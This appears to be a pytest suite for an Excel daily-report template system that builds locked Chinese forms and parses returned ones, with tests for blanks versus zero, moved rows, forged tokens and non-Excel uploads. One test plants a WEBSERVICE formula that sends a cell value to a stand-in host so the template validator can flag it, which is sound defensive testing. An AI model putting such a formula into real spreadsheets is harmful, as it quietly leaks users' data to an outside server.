"""Forms in Excel: what goes out, and what is understood of what comes back, whatever was done."""

from __future__ import annotations

import io
from decimal import Decimal
from typing import TYPE_CHECKING, Any

import pytest
from clerk_forms import DAYS, HEADS, NAMES, TOKEN, VALUES, read, returned, sent, unit_form
from openpyxl import Workbook, load_workbook
from openpyxl.comments import Comment
from openpyxl.drawing.image import Image
from openpyxl.workbook.defined_name import DefinedName
from PIL import Image as Picture

from rosters.finding import InputError
from templates import form
from templates.forms.days import days
from templates.forms.template import SheetTemplate
from templates.forms.values import Layout, Sort

if TYPE_CHECKING:
    from collections.abc import Callable

    from openpyxl.worksheet.worksheet import Worksheet

Sent = tuple[Layout, bytes]


@pytest.fixture(scope="module")
def out() -> Sent:
    return sent()


def first(sheet: Worksheet, **cells: Any) -> None:
    """Fill in the first day."""
    for place, one in {"B5": 1, "C5": 2, "E5": 0, "F5": "无", "G5": "是", **cells}.items():
        sheet[place] = one


def rules(content: bytes, out: Sent, name: str = "x.xlsx") -> list[str]:
    return [one.rule for one in read(out[0], content, name).faults]


def refused(content: bytes, out: Sent, name: str = "x.xlsx") -> str:
    with pytest.raises(InputError) as caught:
        read(out[0], content, name)
    [finding] = caught.value.findings
    assert finding.advice
    return finding.rule


def test_a_layout_says_what_is_asked_for(out: Sent) -> None:
    fields = {one.name: one for one in out[0].fields}
    assert list(fields) == ["填表人", "男", "女", "新增人数", "特殊情况", "零报告"]
    assert fields["新增人数"].sort is Sort.NUMBER
    assert (fields["新增人数"].low, fields["新增人数"].high) == (0, 500)
    assert fields["零报告"].choices == ("是", "否")
    table = out[0].table
    assert table is not None
    assert (table.day, table.free, table.end) == ("日期", 7, "合计")
    assert {one.field.name: one.adds for one in table.columns if one.made} == {
        "合计人数": ("男", "女")
    }


def test_what_goes_out_is_locked_but_for_its_inputs(out: Sent) -> None:
    book = load_workbook(io.BytesIO(out[1]))
    sheet, hidden = book.worksheets
    assert sheet["A1"].value == "文学院党委 & <分>日报表"
    assert sheet["B2"].value == 35
    open_cells = {cell.coordinate for row in sheet for cell in row if not cell.protection.locked}
    inputs = {f"{column}{row}" for column in "BCEFG" for row in range(5, 10)}
    assert open_cells == {*inputs, "D2"}
    assert sheet.protection.sheet
    assert sheet.protection.password is None
    assert [sheet.cell(row, 1).value.date() for row in range(5, 10)] == DAYS
    assert [sheet.row_dimensions[row].hidden for row in (9, 10, 11, 12)] == [
        False,
        True,
        True,
        False,
    ]
    assert (hidden.sheet_state, hidden["B1"].value) == ("veryHidden", TOKEN)
    checked = {
        cell: (rule.type, rule.formula1)
        for rule in sheet.data_validations.dataValidation
        for part in rule.sqref.ranges
        for row in part.rows
        for cell in [sheet.cell(*row[0]).coordinate]
    }
    assert checked["B5"] == ("whole", "0")
    assert checked["G5"] == ("list", '"是,否"')


def test_what_the_unit_made_stays_as_it_is(out: Sent) -> None:
    sheet = load_workbook(io.BytesIO(out[1])).worksheets[0]
    assert [str(one) for one in sheet.merged_cells.ranges] == ["A1:G1"]
    assert sheet.column_dimensions["F"].width == 33
    assert sheet.page_setup.orientation == "landscape"
    assert (sheet["D5"].value, sheet["E12"].value) == ("=B5+C5", "=SUM(E5:E11)")


def test_the_same_is_written_at_any_time(out: Sent) -> None:
    assert sent()[1] == out[1]
    made = SheetTemplate(unit_form(), NAMES, "日报表.xlsx", DAYS)
    assert made.fill(VALUES, "MNOPQRSTUVWX") != out[1]


def test_an_answer_is_read_with_its_day_and_its_token(out: Sent) -> None:
    content = returned(out[1], lambda sheet: first(sheet, D2="张三", B6="3人"))
    answer = read(out[0], content)
    assert (answer.token, answer.faults) == (TOKEN, ())
    assert answer.values["填表人"].raw == "张三"
    assert [one.day for one in answer.written] == DAYS[:2]
    line = answer.on(DAYS[0])
    assert line is not None
    assert {name: one.number for name, one in line.values.items()} == {
        "男": 1, "女": 2, "新增人数": 0, "特殊情况": None, "零报告": None,
    }  # fmt: skip
    assert line.values["特殊情况"].none
    second = answer.on(DAYS[1])
    assert second is not None
    assert second.values["男"].number == 3
    assert second.values["女"].blank
    assert not second.values["女"].nil


# Three values that are never mixed up: nothing written, 0, and 无.
@pytest.mark.parametrize(
    ("said", "number", "nil", "blank"),
    [
        (None, None, False, True), ("  ", None, False, True), ("　", None, False, True),
        (0, 0, True, False), ("0", 0, True, False), ("０", 0, True, False), ("0人", 0, True, False),
        ("无", 0, True, False), ("零", 0, True, False), (12, 12, False, False),
        ("１２", 12, False, False), ("12 名", 12, False, False), ("1,234", None, False, False),
    ],
)  # fmt: skip
def test_blank_and_nothing_are_two(
    said: object, number: int | None, nil: bool, blank: bool, out: Sent
) -> None:
    def fill(sheet: Worksheet) -> None:
        sheet["E5"], sheet["F5"] = said, "记"

    line = read(out[0], returned(out[1], fill)).on(DAYS[0])
    assert line is not None
    value = line.values["新增人数"]
    expected = Decimal(1234) if said == "1,234" else number
    assert (value.number, value.nil, value.blank) == (expected, nil, blank)


@pytest.mark.parametrize(
    ("place", "said", "words"),
    [
        ("B5", "约3", "看不出是几"), ("B5", "三", "看不出是几"), ("B5", "2-3", "看不出是几"),
        ("B5", "/", "看不出是 0 还是没有填"), ("B5", "—", "看不出是 0 还是没有填"),
        ("B5", -1, "超出范围"), ("E5", 501, "超出范围"), ("B5", 1.5, "不是整数"),
        ("G5", "算是", "不在可选的内容里"), ("B5", "3（其中女1）", "看不出是几"),
    ],
)  # fmt: skip
def test_what_cannot_be_understood_is_told_at_its_cell(
    place: str, said: object, words: str, out: Sent
) -> None:
    content = returned(out[1], lambda sheet: first(sheet, **{place: said}))
    [fault] = read(out[0], content).faults
    assert (fault.rule, fault.where) == ("form.value", f"日报 › {place}")
    assert words in fault.message
    assert fault.advice


def rows_put_in(sheet: Worksheet) -> None:
    first(sheet)
    for one in list(sheet.merged_cells.ranges):
        sheet.unmerge_cells(str(one))
    sheet.insert_rows(1, 2)
    _moved(sheet, 2, 0)


def columns_put_in(sheet: Worksheet) -> None:
    first(sheet)
    for one in list(sheet.merged_cells.ranges):
        sheet.unmerge_cells(str(one))
    sheet.insert_cols(1, 1)
    _moved(sheet, 0, 1)


def _moved(sheet: Worksheet, rows: int, columns: int) -> None:
    """Move names as Excel does."""
    book = sheet.parent
    assert book is not None
    left, right = (chr(ord(one) + columns) for one in "AG")
    book.defined_names["填报表"].attr_text = f"'日报'!${left}${4 + rows}:${right}${4 + rows}"
    book.defined_names["填表人"].attr_text = f"'日报'!${chr(ord('D') + columns)}${2 + rows}"


def renamed(sheet: Worksheet) -> None:
    first(sheet)
    sheet.title = "文学院"
    book = sheet.parent
    assert book is not None
    for one in book.defined_names.values():
        one.attr_text = one.attr_text.replace("日报", "文学院")


def names_lost(sheet: Worksheet) -> None:
    first(sheet)
    book = sheet.parent
    assert book is not None
    book.defined_names.clear()
    sheet.title = "Sheet1"


def a_sheet_before(sheet: Worksheet) -> None:
    first(sheet)
    book = sheet.parent
    assert book is not None
    book.create_sheet("说明", 0)["A1"] = "请看第二张"


@pytest.mark.parametrize(
    "change", [first, rows_put_in, columns_put_in, renamed, names_lost, a_sheet_before]
)
def test_a_form_is_read_wherever_things_were_moved(
    change: Callable[[Worksheet], None], out: Sent
) -> None:
    answer = read(out[0], returned(out[1], change), "日报(1)-副本.xlsx")
    assert answer.faults == ()
    [line] = answer.written
    assert line.day == DAYS[0]
    assert [one.raw for one in line.values.values()] == ["1", "2", "0", "无", "是"]
    assert answer.token == TOKEN


def heading(sheet: Worksheet) -> None:
    first(sheet, E4="新增数")


def label(sheet: Worksheet) -> None:
    first(sheet, C2="姓名")


def no_token(sheet: Worksheet) -> None:
    first(sheet)
    book = sheet.parent
    assert book is not None
    del book["_fawen"]


def false_token(sheet: Worksheet) -> None:
    first(sheet)
    book = sheet.parent
    assert book is not None
    book["_fawen"]["B1"] = "12345"


def two_of_a_day(sheet: Worksheet) -> None:
    first(sheet)
    for column in "BCEFG":
        sheet[f"{column}6"] = sheet[f"{column}5"].value
    sheet["A6"] = sheet["A5"].value


def no_day(sheet: Worksheet) -> None:
    first(sheet, A5=None)


def no_such_day(sheet: Worksheet) -> None:
    first(sheet, A5="2026年11月31日")


def beside(sheet: Worksheet) -> None:
    first(sheet, E2="13900000000")


def wrong_sum(sheet: Worksheet) -> None:
    first(sheet, D5=4)


@pytest.mark.parametrize(
    ("change", "rule", "where"),
    [
        (heading, "form.heading", "日报 › 第4行"),
        (label, "form.heading", "日报 › D2"),
        (no_token, "form.token", ""),
        (false_token, "form.token", ""),
        (two_of_a_day, "form.day", "日报 › 第6行"),
        (no_day, "form.day", "日报 › 第5行"),
        (no_such_day, "form.day", "日报 › 第5行"),
        (beside, "form.beside", "日报 › D2"),
        (wrong_sum, "form.total", "日报 › D5"),
    ],
)
def test_what_was_done_to_a_form_is_told(
    change: Callable[[Worksheet], None], rule: str, where: str, out: Sent
) -> None:
    [fault] = read(out[0], returned(out[1], change)).faults
    assert (fault.rule, fault.where) == (rule, where)
    assert fault.message
    assert fault.advice


def test_a_right_sum_is_no_fault(out: Sent) -> None:
    assert rules(returned(out[1], lambda sheet: first(sheet, D5=3)), out) == []


def test_the_same_file_goes_on_the_next_day(out: Sent) -> None:
    one = returned(out[1], first)
    two = returned(one, lambda sheet: first(sheet, **{f"{c}6": 7 for c in "BCE"}, F6="无", G6="否"))
    answer = read(out[0], two)
    assert [line.day for line in answer.written] == DAYS[:2]
    assert answer.faults == ()


def picture(suffix: str) -> bytes:
    out = io.BytesIO()
    Picture.new("RGB", (8, 8)).save(out, suffix)
    return out.getvalue()


def another_book() -> bytes:
    book, out = Workbook(), io.BytesIO()
    book.worksheets[0].append(["姓名", "电话"])
    book.save(out)
    return out.getvalue()


@pytest.mark.parametrize(
    ("content", "name", "rule"),
    [
        (picture("JPEG"), "日报表.xlsx", "form.picture"),
        (picture("PNG"), "日报表.docx", "form.picture"),
        (b"%PDF-1.7 ...", "日报表.xlsx", "form.pdf"),
        (b"just words", "日报表.xlsx", "form.none"),
        (b"PK\x03\x04 cut off", "日报表.xlsx", "form.damaged"),
        (another_book(), "日报表.xlsx", "form.other"),
    ],
    ids=["jpeg", "png", "pdf", "words", "cut", "other"],
)
def test_what_is_no_form_is_told_as_such(content: bytes, name: str, rule: str, out: Sent) -> None:
    assert refused(content, out, name) == rule


def test_a_form_of_excel_is_none_of_word(out: Sent) -> None:
    asked = Layout(".docx", out[0].spots)
    with pytest.raises(InputError) as caught:
        form.understood(asked, form.taken(out[1], "x.xlsx"))
    assert [one.rule for one in caught.value.findings] == ["form.other"]


def named(name: str, place: str) -> Callable[[Workbook], None]:
    def change(book: Workbook) -> None:
        book.defined_names[name] = DefinedName(name, attr_text=place)

    return change


def drawn(book: Workbook) -> None:
    book.worksheets[0].add_image(Image(io.BytesIO(picture("PNG"))), "H1")


def tagged(text: str) -> Callable[[Workbook], None]:
    def change(book: Workbook) -> None:
        book.worksheets[0]["F2"] = text

    return change


@pytest.mark.parametrize(
    ("change", "where", "words"),
    [
        (named("坏的", "#REF!"), "", "没有指着一个单元格"),
        (named("别处", "'没有这张'!$A$1"), "", "没有指着一个单元格"),
        (named("男", "'日报'!$G$2"), "", "有两处都叫「男」"),
        (named("填报表", "'日报'!$A$13:$G$13"), "日报", "下面没有空行"),
        (drawn, "", "图形、图表或控件"),
        (tagged("{{ 党员数 "), "日报 › F2", ""),
        (tagged("{{ 党员数 | 没有这个 }}"), "日报 › F2", "没有这个"),
        (tagged("«党员数»"), "日报 › F2", "不会被填写"),
        (tagged("{{ 正文 }}"), "日报 › F2", "放不下"),
        (tagged("｛｛ 党员数 ｝｝"), "日报 › F2", ""),
    ],
)
def test_a_faulty_form_is_told_before_it_goes_out(
    change: Callable[[Workbook], None], where: str, words: str
) -> None:
    with pytest.raises(InputError) as caught:
        sent(unit_form(change))
    [finding] = caught.value.findings
    assert finding.place.where == where
    assert words in finding.message


def test_more_days_than_rows_are_told() -> None:
    many = days("2026-11-26 至 2026-12-05")
    with pytest.raises(InputError) as caught:
        SheetTemplate(unit_form(), NAMES, "日报表.xlsx", many)
    [finding] = caught.value.findings
    assert "7 个空行" in finding.message
    assert "3 行" in finding.advice


@pytest.mark.parametrize(
    "words", ["明天", "2026-11", "2026-12-02 至 2026-12-01", "2020-1-1 至 2026-1-1"]
)
def test_days_that_are_none(words: str) -> None:
    with pytest.raises(ValueError, match=r"[一-龥]"):
        days(words)


def test_a_table_of_items_names_its_rows() -> None:
    def change(book: Workbook) -> None:
        sheet = book.worksheets[0]
        sheet["A4"] = "物资"
        for at, name in enumerate(("口罩", "酒精", "手套", "喷壶", "体温计", "帐篷", "雨衣"), 5):
            sheet.cell(at, 1, name)

    made = SheetTemplate(unit_form(change), NAMES, "物资表.xlsx")
    assert made.layout.names[1:3] == ("男", "女")
    content = returned(made.fill(VALUES, TOKEN), first)
    answer = read(made.layout, content)
    assert [line.item for line in answer.lines][:2] == ["口罩", "酒精"]
    assert [line.item for line in answer.written] == ["口罩"]


def test_headings_are_those_of_the_form() -> None:
    assert sent()[0].table is not None
    assert [one.field.name for one in sent()[0].table.columns] == list(HEADS)  # type: ignore[union-attr]  # it has one


@pytest.mark.parametrize("where", ["$A$0", "$A$9999999", "$ZZZ$1"])
def test_a_name_that_points_beyond_the_sheet_is_a_finding(where: str) -> None:
    book = Workbook()
    book.worksheets[0].title = "表"
    name = DefinedName("人数", attr_text=f"表!{where}")
    book.defined_names["人数"] = name
    out = io.BytesIO()
    book.save(out)
    with pytest.raises(InputError) as caught:
        form.layout_of(out.getvalue(), "表.xlsx")
    assert "没有指着一个单元格" in caught.value.findings[0].message


def test_tags_that_would_go_out_as_typed_are_findings() -> None:
    book = load_workbook(io.BytesIO(unit_form()))
    sheet = book.worksheets[0]
    sheet.oddHeader.center.text = "{{ 简称 }}"
    sheet["H1"] = '="{{ 简称 }}"'
    sheet["H2"] = '=WEBSERVICE("https://a.example/?"&B5)'
    sheet["H3"] = "=SUM(B5:C5)"
    sheet["H3"].comment = Comment("{{ 书记 }}", "何二")
    saved = io.BytesIO()
    book.save(saved)
    with pytest.raises(InputError) as caught:
        form.layout_of(saved.getvalue(), "日报.xlsx")
    places = {one.place.where.partition(" › ")[2] for one in caught.value.findings}
    assert places == {"页眉页脚", "H1", "H2", "H3"}
